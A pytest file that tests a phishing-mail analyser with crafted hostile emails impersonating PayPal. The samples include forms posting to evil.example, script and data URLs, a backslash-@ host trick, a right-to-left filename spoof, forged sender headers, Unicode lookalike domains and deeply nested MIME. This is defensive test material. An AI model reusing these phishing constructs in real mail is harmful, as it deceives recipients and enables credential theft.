"""Hostile mail, crafted the way attackers do: every way a page can send a person somewhere is
judged like a link, tricks in addresses and headers are named, and nothing makes the reader
raise, run past its budget, or call a crafted mail genuine."""

from __future__ import annotations

import time

import pytest

from bot.content.model import Library
from bot.notices import Analysis, Unreadable, analyse
from bot.notices.budget import Budget

PAYPAL = "From: PayPal <service@paypal.com>\nSubject: Your account\nMIME-Version: 1.0\n"
HTML = "Content-Type: text/html; charset=utf-8\n\n<p>Your PayPal account is limited.</p>"


def judged(lib: Library, raw: bytes | str, budget: Budget | None = None) -> Analysis:
    a = analyse(lib, raw, budget=budget)
    assert isinstance(a, Analysis), a
    return a


def codes(a: Analysis) -> set[str]:
    return set(a.reason_codes())


@pytest.mark.parametrize(
    ("markup", "reason"),
    [
        ("<form action='https://collect.evil.example/p'><input name=u></form>", "link_form"),
        ("<meta http-equiv='refresh' content='0; url=https://evil.example/'>", "link_refresh"),
        ("<iframe src='https://evil.example/login'></iframe>", "link_frame"),
        ("<object data='https://evil.example/login'></object>", "link_frame"),
        ("<base href='https://evil.example/'><a href='signin'>Sign in</a>", "link_base"),
        ("<img usemap='#m' src=x><map name=m><area href='https://evil.example/l'></map>", None),
        ("<svg><a href='https://evil.example/login'><text>Sign in</text></a></svg>", None),
        ("<a href='javascript:location=\"https://evil.example\"'>Sign in</a>", "link_script"),
        ("<a href='data:text/html;base64,PGgxPlBheVBhbDwvaDE+'>Sign in</a>", "link_script"),
        ("<a href='blob:https://evil.example/5f0c'>Sign in</a>", "link_script"),
        ("<a href='vbscript:msgbox(1)'>Sign in</a>", "link_script"),
    ],
)
def test_every_way_a_page_sends_a_person_somewhere_is_judged(
    lib: Library, markup: str, reason: str | None
) -> None:
    a = judged(lib, (PAYPAL + HTML + markup).encode())
    assert a.verdict == "likely_phishing", sorted(codes(a))
    if reason is not None:
        assert reason in codes(a)
    else:
        assert "link_foreign_action" in codes(a)


def test_a_password_box_inside_the_mail_is_named(lib: Library) -> None:
    a = judged(lib, (PAYPAL + HTML + "<form><input type=password name=p></form>").encode())
    assert "asks_password_in_mail" in codes(a) and a.verdict == "likely_phishing"


def test_a_right_to_left_override_is_named(lib: Library) -> None:
    a = judged(lib, "Your PayPal invoice is attached: invoice\u202efdp.exe https://evil.example/i")
    assert "bidi_override" in codes(a)


def test_a_backslash_before_the_at_sign_goes_where_the_browser_goes(lib: Library) -> None:
    a = judged(
        lib,
        (
            PAYPAL + HTML + "<a href='https://evil.example\\@www.paypal.com/signin'>"
            "https://www.paypal.com/signin</a>"
        ).encode(),
    )
    assert a.links[0].host == "evil.example"
    r = next(r for r in a.reasons if r.code == "link_backslash")
    assert "evil.example" in r.text.get("en") and "www.paypal.com" in r.text.get("en")
    assert a.verdict == "likely_phishing"


def test_two_senders_are_a_forgery(lib: Library) -> None:
    raw = "From: PayPal <service@paypal.com>\nFrom: x <x@evil.example>\nSubject: Hi\n"
    a = judged(lib, (raw + "MIME-Version: 1.0\n\nYour PayPal account is limited.\n").encode())
    assert "sender_twice" in codes(a) and a.verdict == "likely_phishing"


def test_a_sender_line_naming_someone_else_is_named(lib: Library) -> None:
    raw = "From: PayPal <service@paypal.com>\nSender: bulk@evil.example\nSubject: Hi\n"
    a = judged(lib, (raw + "MIME-Version: 1.0\n\nYour PayPal account is limited.\n").encode())
    r = next(r for r in a.reasons if r.code == "sender_header_mismatch")
    assert "bulk@evil.example" in r.text.get("en")
    assert a.verdict != "likely_genuine"


@pytest.mark.parametrize(
    "text",
    [
        "PayPal: your account is limited. Sign in at https://pаypal.com/signin",
        "PayPal: your account is limited. Sign in at pаypal.com/signin",
    ],
)
def test_unicode_lookalike_names_in_pasted_text_are_read_whole(lib: Library, text: str) -> None:
    a = judged(lib, text)
    assert [lk.host for lk in a.links] == ["xn--pypal-4ve.com"]
    assert {"link_lookalike", "link_punycode"} <= codes(a)
    assert a.verdict == "likely_phishing"


def test_a_broken_encoded_word_in_a_header_does_not_stop_the_reader(lib: Library) -> None:
    raw = (
        b"From: =?utf-8?B?abcde?= <a@b.example>\nSubject: =?utf-8?B?abcde?=\n"
        b"MIME-Version: 1.0\n\nhello https://evil.example/x"
    )
    a = judged(lib, raw)
    assert a.links and a.links[0].host == "evil.example"


def test_mime_nested_a_thousand_deep_is_read_in_part(lib: Library) -> None:
    deep = PAYPAL
    for i in range(1000):
        deep += f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n'
    deep += "Content-Type: text/plain\n\nYour PayPal account is limited.\n"
    started = time.perf_counter()
    a = judged(lib, deep.encode())
    assert time.perf_counter() - started < 5
    assert "partly_unreadable" in codes(a)
    assert a.verdict != "likely_genuine"


def test_nesting_just_past_the_limit_is_noted(lib: Library) -> None:
    deep = PAYPAL
    for i in range(30):
        deep += f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n'
    deep += "Content-Type: text/plain\n\nYour PayPal account is limited.\n"
    assert "partly_unreadable" in codes(judged(lib, deep.encode()))


def test_tens_of_thousands_of_links_are_read_within_the_budget(lib: Library) -> None:
    many = "Your account. " + " ".join(f"https://h{i}.site{i % 50}.example/x" for i in range(30000))
    a = judged(lib, many.encode()[: 1024 * 1024])
    assert "budget" in codes(a)


def test_a_deadline_passed_in_stops_the_reader_with_a_note(lib: Library) -> None:
    calls = []

    def expired() -> bool:
        calls.append(1)
        return True

    text = "Your Amazon account. " + " ".join(f"https://x{i}.example/" for i in range(300))
    a = judged(lib, text, Budget(expired=expired, check_every=8))
    assert calls and "budget" in codes(a)


def test_nothing_but_junk_is_refused_kindly(lib: Library) -> None:
    for raw in (b"\x00\x01\x02" * 100, b"   ", "", "\u200b\u200b"):
        a = analyse(lib, raw)
        assert isinstance(a, Unreadable), raw
